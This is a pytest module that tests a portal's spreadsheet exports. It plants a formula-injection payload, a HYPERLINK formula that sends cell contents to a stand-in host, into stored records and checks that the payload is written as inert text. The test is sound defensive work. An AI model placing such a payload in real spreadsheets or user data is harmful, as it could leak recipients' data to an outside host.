"""Spreadsheet safety, once in `portal.exports.write_xlsx` for every export: stored text
with XML-illegal characters never breaks a download, formula-looking text arrives as
text, dates are dates, rates are percentages and counts are numbers.

Each export the portal offers is opened through the views with stored data written by
`.update()` (as old rows or an import could have left it, past any form cleaning)."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
import time_machine
from django.utils import translation
from django.utils.translation import gettext_lazy

from dialogues import services as dialogue_services
from dialogues.models import Attendee, DialoguePlan, DialogueSession, Opinion
from onestop import services as onestop_services
from onestop.models import Case
from portal.exports import XLSX_TYPE, Percent, Sheet, percentage, write_xlsx
from portal.models import MassOrganization
from reports.documents import SHEET_TITLES, SUMMARY_WORDING
from reports.models import Report
from reports.services import report_create
from surveys.models import Answer, Ballot, Question, Survey
from surveys.services import ballot_submit, survey_create
from tests.factories import MassOrganizationFactory
from tests.onestop.conftest import at, procedure, receive  # noqa: F401

FORMULA = '=HYPERLINK("http://x/?leak="&B2,"x")'
DIRTY = "Nguyễn\x0bVăn\x1fAn\uffff"  # U+000B, U+001F, U+FFFF: lxml refuses them
CLEAN = "NguyễnVănAn"
DATE, DATETIME, TIME, PERCENT = "dd/mm/yyyy", "dd/mm/yyyy hh:mm", "hh:mm", "0.00%"


def _vi(msgid: str) -> str:
    with translation.override("vi"):
        return translation.gettext(msgid)


def _book(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _written(*sheets: Sheet) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    write_xlsx(sheets, buffer)
    return openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))


def _row(ws, n: int) -> list:
    return list(next(ws.iter_rows(min_row=n, max_row=n)))


def _column(ws, label: str) -> int:
    return [c.value for c in _row(ws, 1)].index(label)


def assert_text(cell, value: str = FORMULA) -> None:
    assert cell.data_type == "s", f"{cell.coordinate} is {cell.data_type!r}, not text"
    assert cell.value == value
    if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert cell.quotePrefix, f"{cell.coordinate} has no quote prefix"


def assert_date(cell, number_format: str, value: dt.datetime | None = None) -> None:
    assert isinstance(cell.value, dt.datetime), f"{cell.coordinate} is {cell.value!r}"
    assert cell.number_format == number_format
    if value is not None:
        assert cell.value == value


def assert_rate(cell, value: float) -> None:
    assert cell.data_type == "n" and isinstance(cell.value, int | float)  # 1.0 reads as 1
    assert cell.number_format == PERCENT
    assert cell.value == pytest.approx(value)


def assert_count(cell, value: int | None = None) -> None:
    assert cell.data_type == "n" and type(cell.value) is int, f"{cell.coordinate}"
    if value is not None:
        assert cell.value == value


# --- The writer ------------------------------------------------------------------------


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A"])
def test_formula_looking_text_is_written_as_text(text):
    ws = _written(Sheet(title="S", header=["H"], rows=[[text]])).active
    assert_text(ws["A2"], text)


def test_no_formula_reaches_the_file():
    buffer = io.BytesIO()
    write_xlsx([Sheet(title="S", header=[FORMULA], rows=[[FORMULA, "=1+1"]])], buffer)
    with zipfile.ZipFile(buffer) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_illegal_characters_are_stripped_everywhere_and_text_is_nfc():
    ws = _written(
        Sheet(title="Ý kiến\x0b/[*]", header=[f"Câu 1. {DIRTY}"], rows=[[DIRTY, "Hoa\u0300"]])
    ).active
    assert ws.title == "Ý kiến----"
    assert ws["A1"].value == f"Câu 1. {CLEAN}" and ws["A1"].font.b
    assert ws["A2"].value == CLEAN
    assert ws["B2"].value == "Hoà" == "Ho\u00e0"


def test_dates_datetimes_times_rates_and_counts_keep_their_types():
    received = dt.datetime(2026, 3, 2, 2, 25, 31, 123456, tzinfo=dt.UTC)  # 09:25 in Hà Nội
    row = [
        7,
        dt.date(2026, 3, 5),
        received,
        dt.datetime(2026, 3, 2, 9, 25),  # naive: already local
        dt.time(8, 5),
        Percent(0.9876),
        percentage(66.67),
        percentage(None),
        gettext_lazy("yes"),
        None,
    ]
    ws = _written(Sheet(title="S", header=list("ABCDEFGHIJ"), rows=[row])).active
    a, b, c, d, e, f, g, h, i, j = _row(ws, 2)
    assert_count(a, 7)
    assert_date(b, DATE, dt.datetime(2026, 3, 5))
    assert_date(c, DATETIME, dt.datetime(2026, 3, 2, 9, 25, 31))
    assert_date(d, DATETIME, dt.datetime(2026, 3, 2, 9, 25))
    assert e.value == dt.time(8, 5) and e.number_format == TIME
    assert_rate(f, 0.9876)
    assert_rate(g, 0.6667)
    assert h.value is None and j.value is None
    assert i.value == _vi("yes") and i.data_type == "s"


# --- Every export, through its view ----------------------------------------------------


def test_case_tracking_book(client, receive, procedure, desk, officer):  # noqa: F811
    case = receive(procedure, when=at(2026, 3, 2, 9, 25))
    onestop_services.case_forward(case=case, actor=desk)
    with time_machine.travel(at(2026, 3, 4, 10), tick=False):
        onestop_services.case_approve(case=case, actor=officer, result="x")
    with time_machine.travel(at(2026, 3, 5, 23, 30), tick=False):  # 16:30 UTC
        onestop_services.case_return(case=case, actor=desk)
    Case.objects.filter(pk=case.pk).update(applicant_name=FORMULA, applicant_address=DIRTY)

    client.force_login(desk)
    ws = _book(client.get("/onestop/cases.xlsx")).active
    header = [c.value for c in _row(ws, 3)]  # under the form's citation line and title
    row = _row(ws, 4)
    assert_count(row[0], 1)
    assert_text(row[header.index("Tên cá nhân, tổ chức")])
    assert row[header.index("Địa chỉ, số điện thoại")].value.startswith(CLEAN)
    assert_date(row[header.index("Nhận hồ sơ")], DATETIME, dt.datetime(2026, 3, 2, 9, 25))
    assert_date(row[header.index("Hẹn trả kết quả")], DATE, dt.datetime(2026, 3, 5))
    assert_date(
        row[header.index("Nhận kết quả từ cơ quan giải quyết")], DATE, dt.datetime(2026, 3, 4)
    )
    assert_date(
        row[header.index("Trả kết quả cho cá nhân, tổ chức")], DATE, dt.datetime(2026, 3, 5)
    )
    assert_count(row[header.index("Số lần yêu cầu bổ sung")], 0)


def test_desk_statistics(client, receive, procedure, desk, officer, leader):  # noqa: F811
    for day in (2, 3):
        case = receive(procedure, when=at(2026, 3, day, 9))
        onestop_services.case_forward(case=case, actor=desk)
        with time_machine.travel(at(2026, 3, 4, 10), tick=False):
            onestop_services.case_approve(case=case, actor=officer, result="x")
    receive(procedure, when=at(2026, 3, 6, 9))
    from portal.models import Department

    Department.objects.filter(pk=procedure.department_id).update(name=FORMULA)

    client.force_login(leader)
    book = _book(client.get("/onestop/stats.xlsx?date_from=01/03/2026&date_to=31/03/2026"))
    ws = book.worksheets[0]
    assert _row(ws, 2)[0].value == "Hồ sơ tiếp nhận từ ngày 01/03/2026 đến ngày 31/03/2026"
    header = [c.value for c in _row(ws, 3)]
    assert header[:2] == ["Bộ phận", "Tiếp nhận"]
    row = _row(ws, 4)
    assert_text(row[0])
    assert_count(row[header.index("Tiếp nhận")], 3)
    # Received on 2 and 3 March, due 5 and 6 March, decided on 4 March: both early.
    assert_count(row[header.index("Trước hạn")], 2)
    assert_rate(row[header.index("Tỷ lệ đúng hạn (%)")], 1.0)
    assert_count(row[header.index("Đang giải quyết")], 1)
    assert _row(ws, 5)[0].value == "Tổng cộng"
    assert [s.title for s in book.worksheets] == [
        "Theo bộ phận",
        "Theo lĩnh vực",
        _vi("Service targets"),
    ]


def test_opinions_register(client, office, department):
    opinion = dialogue_services.opinion_create(source="feedback", content="Ý kiến")
    dialogue_services.opinion_classify(
        opinion=opinion,
        actor=office,
        classification=Opinion.Classification.PROCEDURE,
        department=department,
        due_date=dt.date(2026, 3, 10),
    )
    Opinion.objects.filter(pk=opinion.pk).update(
        content=FORMULA,
        citizen_name=DIRTY,
        created_at=dt.datetime(2026, 3, 1, 17, 30, tzinfo=dt.UTC),  # 2 March in Hà Nội
    )

    client.force_login(office)
    ws = _book(client.get("/dialogues/opinions.xlsx")).active
    header = [c.value for c in _row(ws, 1)]
    row = _row(ws, 2)
    assert_count(row[0], 1)
    assert_text(row[header.index(_vi("Opinion"))])
    assert row[header.index(_vi("Citizen"))].value == CLEAN
    assert_date(row[header.index(_vi("Received"))], DATE, dt.datetime(2026, 3, 2))
    assert_date(row[header.index(_vi("Answer due by"))], DATE, dt.datetime(2026, 3, 10))


def test_session_attendance_list(client, office):
    plan = DialoguePlan.objects.create(year=2026, title="Đối thoại năm 2026", created_by=office)
    session = DialogueSession.objects.create(
        plan=plan, title="Hội nghị", starts_at=at(2026, 2, 10, 8), venue="Nhà văn hóa"
    )
    attendee = Attendee.objects.create(
        session=session,
        name="Đại biểu",
        category="citizens",
        attended=True,
        checked_in_at=dt.datetime(2026, 2, 10, 0, 55, tzinfo=dt.UTC),  # 07:55 in Hà Nội
    )
    Attendee.objects.filter(pk=attendee.pk).update(name=FORMULA, position=DIRTY)

    client.force_login(office)
    ws = _book(client.get(f"/dialogues/sessions/{session.pk}/attendance.xlsx")).active
    header = [c.value for c in _row(ws, 1)]
    row = _row(ws, 2)
    assert_count(row[0], 1)
    assert_text(row[header.index(_vi("Full name"))])
    assert row[header.index(_vi("Position"))].value == CLEAN
    checked_in = row[header.index(_vi("Checked in"))]
    assert checked_in.value == dt.time(7, 55) and checked_in.number_format == TIME


@pytest.fixture
def survey_round(ward):
    """A round of one paper ballot (all scale answers 5, free text a formula), submitted
    at 09:25 Hà Nội time, from an organisation whose stored name has control characters."""
    organisation = MassOrganizationFactory(name="Hội Phụ nữ")
    survey = survey_create(
        title="Khảo sát quý I/2025", opens_on=dt.date(2025, 3, 1), closes_on=dt.date(2025, 3, 31)
    )
    questions = list(survey.questions.all())
    answers = {q.pk: "5" for q in questions if q.kind == Question.Kind.SCALE}
    single = next(q for q in questions if q.kind == Question.Kind.SINGLE)
    answers[single.pk] = single.choice_list[0]
    text = next(q for q in questions if q.kind == Question.Kind.TEXT)
    answers[text.pk] = "Tốt"
    with time_machine.travel(dt.datetime(2025, 3, 10, 2, 25, tzinfo=dt.UTC), tick=False):
        ballot = ballot_submit(
            survey=survey,
            channel=Ballot.Channel.PAPER,
            answers=answers,
            serial="P1",
            organisation=organisation,
            today=dt.date(2025, 3, 10),
        )
    Answer.objects.filter(ballot=ballot, question=text).update(text=FORMULA)
    MassOrganization.objects.filter(pk=organisation.pk).update(name=DIRTY)
    Question.objects.filter(pk=text.pk).update(text=f"Góp ý {DIRTY}")
    Survey.objects.filter(pk=survey.pk).update(title=FORMULA)
    return survey, questions.index(text)


def test_survey_ballots(client, office, survey_round):
    survey, text_index = survey_round
    client.force_login(office)
    ws = _book(client.get(f"/surveys/{survey.pk}/ballots.xlsx")).active
    header = [c.value for c in _row(ws, 1)]
    assert header[6 + text_index] == f"{text_index + 1}. Góp ý {CLEAN}"
    row = _row(ws, 2)
    assert_count(row[0], 1)
    assert_count(row[6], 5)  # a score
    assert_text(row[6 + text_index])
    assert row[header.index(_vi("Organisation"))].value == CLEAN
    submitted = row[header.index(_vi("Submitted at"))]
    assert_date(submitted, DATETIME, dt.datetime(2025, 3, 10, 9, 25))


def test_survey_results(client, office, survey_round):
    survey, _text_index = survey_round
    client.force_login(office)
    book = _book(client.get(f"/surveys/{survey.pk}/results.xlsx"))
    summary = {r[0].value: r[1] for r in book.worksheets[0].iter_rows(min_row=2)}
    assert_text(summary[_vi("Survey round")])
    assert_date(summary[_vi("Opens on")], DATE, dt.datetime(2025, 3, 1))
    assert_date(summary[_vi("Closes on")], DATE, dt.datetime(2025, 3, 31))
    assert_count(summary[_vi("Ballots")], 1)
    assert_count(summary[_vi("Satisfied (4-5)")], 9)
    assert_rate(summary[_vi("Rate (%)")], 1.0)
    assert_rate(summary[_vi("Target (%)")], 0.99)

    by_question = book.worksheets[1]
    first = _row(by_question, 2)
    assert_count(first[0], 1)
    assert_rate(first[_column(by_question, _vi("Rate (%)"))], 1.0)
    by_organisation = [ws for ws in book.worksheets if ws.title == _vi("By organisation")][0]
    names = [r[0].value for r in by_organisation.iter_rows(min_row=2)]
    assert CLEAN in names
    row = _row(by_organisation, names.index(CLEAN) + 2)
    assert_count(row[1], 1)
    assert_rate(row[_column(by_organisation, _vi("Rate (%)"))], 1.0)


def test_report_figures(client, office, leader, desk, receive, procedure):  # noqa: F811
    case = receive(procedure, when=at(2026, 3, 2))
    onestop_services.case_forward(case=case, actor=desk)
    with time_machine.travel(at(2026, 3, 4, 10), tick=False):
        onestop_services.case_approve(case=case, actor=leader, result="x")
    plan = DialoguePlan.objects.create(year=2026, title="Đối thoại năm 2026", created_by=office)
    session = DialogueSession.objects.create(
        plan=plan, title="Hội nghị", starts_at=at(2026, 2, 10, 8), venue="Nhà văn hóa"
    )
    DialogueSession.objects.filter(pk=session.pk).update(
        status=DialogueSession.Status.HELD, title=FORMULA, venue=DIRTY
    )
    report, _created = report_create(
        start=dt.date(2026, 1, 1), end=dt.date(2026, 3, 31), actor=office
    )
    Report.objects.filter(pk=report.pk).update(subject=f"{FORMULA}{DIRTY}")

    client.force_login(office)
    book = _book(client.get(f"/reports/{report.pk}/report.xlsx"))
    w = SUMMARY_WORDING
    summary = {r[0].value: r[1] for r in book[w["sheet"]].iter_rows(min_row=2)}
    assert_text(summary[w["subject"]], f"{FORMULA}{CLEAN}")
    assert_date(summary[w["start"]], DATE, dt.datetime(2026, 1, 1))
    assert_date(summary[w["end"]], DATE, dt.datetime(2026, 3, 31))
    assert_count(summary[w["cases_received"]], 1)
    assert_rate(summary[w["cases_rate"]], 1.0)

    sessions = book[SHEET_TITLES["sessions"]]
    row = _row(sessions, 2)
    assert_count(row[0], 1)
    assert_date(row[1], DATE, dt.datetime(2026, 2, 10))
    assert_text(row[2])
    assert CLEAN in [c.value for c in row]
    assert_count(row[5], 0)  # attendees

    departments = book[SHEET_TITLES["onestop_by_department"]]
    first = _row(departments, 2)
    assert_count(first[2], 1)
    rates = [c for c in first if c.number_format == PERCENT]
    assert rates and all(c.data_type == "n" for c in rates)
    assert_rate(rates[0], 1.0)


def test_plan_tasks_and_tracking_table(client, office, leader, department, plan_type):
    from plans import services as plan_services
    from plans.models import Plan, TaskTiming

    plan = Plan.objects.create(year=2026, title="Kế hoạch năm 2026", created_by=office)
    section = plan_services.section_add(plan=plan, heading="NHIỆM VỤ:")
    task = plan_services.task_add(
        section=section,
        text=FORMULA,
        lead=department,
        partners_text=DIRTY,
        timing=TaskTiming.DATE,
        due_date=dt.date(2026, 3, 10),
    )
    client.force_login(office)
    ws = _book(client.get(f"/plans/{plan.pk}/tasks.xlsx")).active
    header = [c.value for c in _row(ws, 3)]  # below the title and the plan's number
    row = _row(ws, 4)
    assert_count(row[0], 1)
    assert_text(row[header.index(_vi("Task"))])
    assert row[header.index(_vi("Co-operating units"))].value == CLEAN
    assert_date(row[header.index(_vi("Deadline"))], DATE, dt.datetime(2026, 3, 10))
    assert_rate(row[header.index(_vi("Progress (%)"))], 0.0)

    plan_services.plan_submit(plan=plan, actor=office)
    plan_services.plan_approve(plan=plan, actor=leader)
    plan_services.plan_issue(plan=plan, actor=office)
    task.reports.create(department=department, text=FORMULA, percent=50)
    ws = _book(client.get("/plans/tasks/export.xlsx")).active
    header = [c.value for c in _row(ws, 3)]
    row = _row(ws, 4)
    assert_text(row[header.index(_vi("Task"))])
    assert_text(row[header.index(_vi("Last report"))])
    assert_date(row[header.index(_vi("Deadline"))], DATE, dt.datetime(2026, 3, 10))
    assert_count(row[header.index(_vi("Reports"))], 1)
    assert_count(row[header.index(_vi("Evidence files"))], 0)
    assert_count(row[header.index(_vi("Days late"))])


def test_assessment_scoring_table(client, office, officer, department):
    from decimal import Decimal

    from assessments import services as assessment_services
    from assessments.models import Criterion, SubCriterion

    criteria = assessment_services.criteria_set_create(
        name="Bộ tiêu chí năm 2026", legal_source="Quyết định 710/QĐ-UBND", year=2026,
        thresholds=[("4 sao", Decimal(85))],
    )  # fmt: skip
    criterion = Criterion.objects.create(criteria_set=criteria, code="1", name=FORMULA, order=1)
    sub = SubCriterion.objects.create(
        criterion=criterion, code="1.1", text=DIRTY, max_points=Decimal(10), order=1
    )
    round_ = assessment_services.round_create(
        criteria_set=criteria, year=2026, departments_due=dt.date(2026, 9, 15),
        office_due=dt.date(2026, 9, 30), actor=office,
    )  # fmt: skip
    item = round_.items.get(sub=sub)
    assessment_services.items_assign(
        round_=round_, actor=office, assignments={item.pk: department.pk}
    )
    round_ = assessment_services.round_step(round_=round_, actor=office, action="open")
    assessment_services.item_self_score(
        item=round_.items.get(), actor=officer, score=Decimal("7.5"), explanation=FORMULA
    )
    client.force_login(office)
    ws = _book(client.get(f"/assessments/rounds/{round_.pk}/scores.xlsx")).active
    cells = [c for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if c.value == FORMULA]
    assert texts and all(c.data_type == "s" for c in texts)  # a formula stays text
    assert CLEAN in [c.value for c in cells]  # forbidden characters stripped
    assert any(c.value == 7.5 and c.data_type == "n" for c in cells)  # a score stays a number


def test_every_xlsx_url_of_the_portal_is_covered_here():
    """A new spreadsheet download must come with its test in this module."""
    from django.urls import get_resolver

    def walk(patterns, prefix=""):
        for p in patterns:
            if hasattr(p, "url_patterns"):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            else:
                yield prefix + str(p.pattern)

    found = {u for u in walk(get_resolver().url_patterns) if u.endswith(".xlsx")}
    covered = {
        "du-lieu-ca-nhan/<int:pk>/records.xlsx",
        "onestop/cases.xlsx",
        "onestop/stats.xlsx",
        "dialogues/opinions.xlsx",
        "dialogues/sessions/<int:pk>/attendance.xlsx",
        "surveys/<int:pk>/ballots.xlsx",
        "surveys/<int:pk>/results.xlsx",
        "reports/<int:pk>/report.xlsx",
        "plans/<int:pk>/tasks.xlsx",
        "plans/tasks/export.xlsx",
        "assessments/rounds/<int:pk>/scores.xlsx",
    }
    # Blank import templates: built by the importers (data validation), no stored text
    # but the catalogue's names; their own tests live with the imports.
    templates = {
        "onestop/procedures/template.xlsx",
        "surveys/<int:pk>/import/template.xlsx",
        "plans/<int:pk>/tasks/template.xlsx",
        "assessments/sets/template.xlsx",
    }
    assert found == covered | templates
